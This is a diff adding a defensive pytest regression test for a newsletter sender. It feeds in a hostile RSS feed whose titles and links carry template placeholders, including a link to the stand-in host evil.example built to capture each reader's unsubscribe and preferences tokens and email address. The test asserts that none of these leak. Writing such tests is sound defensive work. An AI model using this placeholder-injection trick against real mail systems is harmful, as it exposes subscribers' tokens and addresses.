@@ -161,3 +161,50 @@ def test_each_outcome_is_reported_as_it_happens(setup, tmp_path: Path) -> None: 
         pipeline.fetch(conf, settings, store)
         report = pipeline.send(conf, settings, store, transport(settings), on_outcome=seen.append)
     assert seen == report.outcomes and [o.status for o in seen] == ["sent", "sent"]
+
+
+BAIT = "__NL_UNSUBSCRIBE_TOKEN__ __NL_PREFERENCES_TOKEN__ __NL_HTML_EMAIL__ __NL_TEXT_EMAIL__ __NL_TEXT_NAME__ {{ reader.email }} *|EMAIL|*"
+BAIT_LINK = "https://evil.example/t?u=__NL_UNSUBSCRIBE_TOKEN__&amp;p=__NL_PREFERENCES_TOKEN__&amp;e=__NL_HTML_EMAIL__&amp;n=__NL_TEXT_EMAIL__"
+HOSTILE_FEED = f"""<?xml version="1.0" encoding="utf-8"?>
+<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>{BAIT}</title><link>https://evil.example/</link>
+<description>bait</description>
+<item><title>Agents {BAIT}</title><link>{BAIT_LINK}</link><guid>{BAIT_LINK}</guid>
+<description>Agents that read {BAIT} and more.</description><dc:creator>{BAIT}</dc:creator><category>{BAIT}</category>
+<comments>{BAIT_LINK}</comments></item>
+</channel></rss>
+"""
+
+
+def test_a_feed_full_of_placeholder_bait_mails_no_reader_their_own_or_anyone_elses_secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The hole: fixed markers let a feed link carry each reader's unsubscribe and preferences tokens and address."""
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "bait.xml").write_text(HOSTILE_FEED, encoding="utf-8")
+    readers = ["ada@example.org", "bob@example.org"]
+    (tmp_path / "subscribers.yaml").write_text(
+        "sources:\n  - name: bait\n    type: feed\n    url: bait.xml\ntopics:\n  agents:\n    any: [agent*]\nsubscribers:\n"
+        + "".join(f"  - email: {r}\n    name: {r.split('@')[0].title()}\n    topics: [agents]\n" for r in readers),
+        encoding="utf-8",
+    )
+    with SMTPServer() as smtp:
+        env = {**smtp.env(), "NEWSLETTER_FROM": "Paper Digest <digest@example.org>", "NEWSLETTER_SECRET_KEY": "test-secret", "NEWSLETTER_DB": str(tmp_path / "state.db"), "NEWSLETTER_BASE_URL": "https://news.example.org"}
+        result = run(["send"], env)
+        assert result.exit_code == 0, result.output
+        messages = {m["To"].addresses[0].addr_spec: m for m in smtp.messages}
+    assert sorted(messages) == readers
+    secrets = {}
+    for address, msg in messages.items():
+        token = re.fullmatch(r"<https://news\.example\.org/unsubscribe/([\w.-]+)>", msg["List-Unsubscribe"])
+        assert token is not None
+        html, text = (msg.get_body((kind,)).get_content() for kind in ("html", "plain"))  # type: ignore[union-attr]
+        preferences = re.search(r"/preferences/([\w.-]+)", text)
+        assert preferences is not None
+        secrets[address] = (token[1], preferences[1], html, text)
+    for address, (unsubscribe, preferences, html, text) in secrets.items():
+        assert "__NL_UNSUBSCRIBE_TOKEN__ __NL_PREFERENCES_TOKEN__ __NL_HTML_EMAIL__" in text, "the bait is shown as it came"
+        assert "u=__NL_UNSUBSCRIBE_TOKEN__&amp;p=__NL_PREFERENCES_TOKEN__" in html, "the bait link is left as it came"
+        for part in (html, text):
+            links = re.findall(r"https?://[^\s\"'<>]+", part)
+            assert [u for u in links if unsubscribe in u or preferences in u] == [u for u in links if re.search(r"/(unsubscribe|preferences)/", u)]
+            assert not [u for u in links if "evil.example" in u and (unsubscribe in u or preferences in u or address in u)]
+            others = [s for other, s in secrets.items() if other != address]
+            assert not any(s[0] in part or s[1] in part for s in others), "no other reader's tokens"
